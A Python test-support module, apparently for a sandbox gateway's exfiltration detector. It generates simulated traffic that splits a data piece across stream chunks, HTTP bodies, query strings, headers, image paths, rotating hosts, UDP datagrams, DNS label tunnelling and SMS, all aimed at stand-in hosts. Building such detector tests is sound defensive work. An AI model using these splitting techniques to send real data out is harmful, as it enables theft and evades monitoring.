"""One piece in several messages: chunks, requests, hosts, datagrams, lookups, texts."""

import base64
import json
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

from sandbox.gateway.flow import Channel, Flow
from tests.detect.payloads.model import Draw, Family, Kind, Piece
from tests.detect.payloads.noise import token
from tests.detect.payloads.wire import Wire, noise

Sent = Iterator[Flow]


@dataclass(frozen=True, slots=True)
class Split:
    """A way to send a piece in parts. `run` is only called with what `takes` accepts."""

    name: str
    requires: str
    takes: Callable[[Piece], bool]
    run: Callable[[Piece, Draw, Wire], Sent]
    family: Family = Family.SPLIT


def _parts(data: bytes, draw: Draw, most: int, least: int = 8) -> list[bytes]:
    """Two to twelve parts of about the same size, none above `most` bytes."""
    size = max(min(len(data) // draw.random.randint(2, 12) + 1, most), least)
    return [data[at : at + size] for at in range(0, len(data), size)]


def _text(part: bytes, piece: Piece) -> str:
    """A part of text as it is, a part of other data in base64."""
    return (
        part.decode()
        if piece.data.isascii() and piece.kind is not Kind.BINARY
        else base64.b64encode(part).decode()
    )


def _between(flows: Iterator[Flow], draw: Draw, wire: Wire) -> Sent:
    """With other requests of the run in between."""
    often = draw.random.choice((0.0, 0.3, 1.0))
    for flow in flows:
        yield flow
        if draw.random.random() < often:
            yield noise(draw, wire)


def _chunks(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    messages = [wire.message("stream", part) for part in _parts(piece.data, draw, 1 << 14)]
    yield wire.flow(Channel.TCP, "203.0.113.7", 9001, *messages)


def _bodies(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    parts = _parts(piece.data, draw, 1 << 14)
    return _between((wire.request("up.example", "/part", body=part) for part in parts), draw, wire)


def _numbered(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """JSON with a counter, also out of order."""
    rows = list(enumerate(_parts(piece.data, draw, 1 << 13)))
    session, counter = token(draw.random, 8, 16), draw.random.choice(("seq", "part", "i", "n"))
    if draw.random.random() < 0.5:
        draw.random.shuffle(rows)
    for at, part in rows:
        row = {"sid": session, counter: at + 1, "of": len(rows), "data": _text(part, piece)}
        yield wire.request("up.example", "/chunk", body=json.dumps(row).encode())
        if draw.random.random() < 0.3:
            yield noise(draw, wire)


def _queries(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """Query parameters, with a counter or in order."""
    numbered = draw.random.random() < 0.5
    rows = list(enumerate(_parts(piece.data, draw, 900)))
    if numbered:
        draw.random.shuffle(rows)
    flows = (
        wire.request(
            "up.example", f"/px?{f'n={at}&' if numbered else ''}d={quote(_text(part, piece), safe='')}"
        )
        for at, part in rows
    )
    return _between(flows, draw, wire)


def _headers(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    name = draw.random.choice(("X-Trace", "Cookie", "If-None-Match"))
    flows = (
        wire.request("up.example", "/ping", ((name, quote(_text(part, piece), safe="/+=")),))
        for part in _parts(piece.data, draw, 900)
    )
    return _between(flows, draw, wire)


def _paths(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    flows = (
        wire.request("img.example", f"/i/{quote(_text(part, piece), safe='')}/p.gif")
        for part in _parts(piece.data, draw, 300)
    )
    return _between(flows, draw, wire)


def _hosts(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """Requests of one shape to hosts that take turns."""
    hosts = [f"{name}.example" for name in draw.random.sample(("alpha", "beta", "gamma", "delta"), 3)]
    for at, part in enumerate(_parts(piece.data, draw, 1 << 12)):
        row = json.dumps({"n": at, "d": _text(part, piece)}).encode()
        yield wire.request(hosts[at % 3], "/u", body=row)


def _datagrams(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """Number and count of the part in two bytes each, also out of order."""
    rows = list(enumerate(_parts(piece.data, draw, 1200)))
    if draw.random.random() < 0.5:
        draw.random.shuffle(rows)
    for at, part in rows:
        head = struct.pack(">HH", at, len(rows))
        yield wire.flow(Channel.UDP, "203.0.113.8", 5006, wire.message("stream", head + part))


def _lookups(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """Names whose labels are the data in base32 or hex; with a counter out of order, else in order."""
    encoded = draw.random.choice(
        (piece.data.hex(), base64.b32encode(piece.data).decode().rstrip("=").lower())
    )
    size = draw.random.choice((24, 40, 60))
    labels = [encoded[at : at + size] for at in range(0, len(encoded), size)]
    rows = list(enumerate(labels))
    numbered = draw.random.random() < 0.5
    if numbered:
        draw.random.shuffle(rows)
    flows = (wire.lookup(f"{f'{at}.' if numbered else ''}{label}.t.drip.example") for at, label in rows)
    return _between(flows, draw, wire)


def _plain_labels(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    """Several labels in each name."""
    encoded = piece.data.hex()
    labels = [encoded[at : at + 30] for at in range(0, len(encoded), 30)]
    for at in range(0, len(labels), 3):
        yield wire.lookup(".".join(labels[at : at + 3]) + ".x.drip.example")


def _texts(piece: Piece, draw: Draw, wire: Wire) -> Sent:
    parts = _parts(piece.data, draw, 140, 40)
    for at, part in enumerate(parts):
        address = wire.message("address", b"+15005550006")
        sent = f"{at + 1}/{len(parts)} {_text(part, piece)}".encode()
        yield wire.flow(Channel.SMS, "+15005550006", None, address, wire.message("body", sent))


def _from(least: int, most: int) -> Callable[[Piece], bool]:
    return lambda piece: least <= len(piece.data) <= most


def _textual(piece: Piece) -> bool:
    return piece.kind is not Kind.BINARY and piece.data.isascii() and 24 <= len(piece.data) <= 1200


SPLITS: tuple[Split, ...] = (
    Split("chunks of a stream", "24 bytes", _from(24, 1 << 18), _chunks),
    Split("bodies in order", "24 bytes to 64 KiB", _from(24, 1 << 16), _bodies),
    Split("numbered requests", "24 bytes to 64 KiB", _from(24, 1 << 16), _numbered),
    Split("query parameters", "24 bytes to 8 KiB", _from(24, 1 << 13), _queries),
    Split("headers", "24 bytes to 8 KiB", _from(24, 1 << 13), _headers),
    Split("path segments", "24 bytes to 4 KiB", _from(24, 1 << 12), _paths),
    Split("several hosts", "24 bytes to 32 KiB", _from(24, 1 << 15), _hosts),
    Split("datagrams", "24 bytes to 12 KiB", _from(24, 12_000), _datagrams),
    Split("dns lookups", "24 bytes to 1 KiB", _from(24, 1024), _lookups),
    Split("dns labels", "24 bytes to 1 KiB", _from(24, 1024), _plain_labels),
    Split("text messages", "24 to 1,200 characters", _textual, _texts),
)
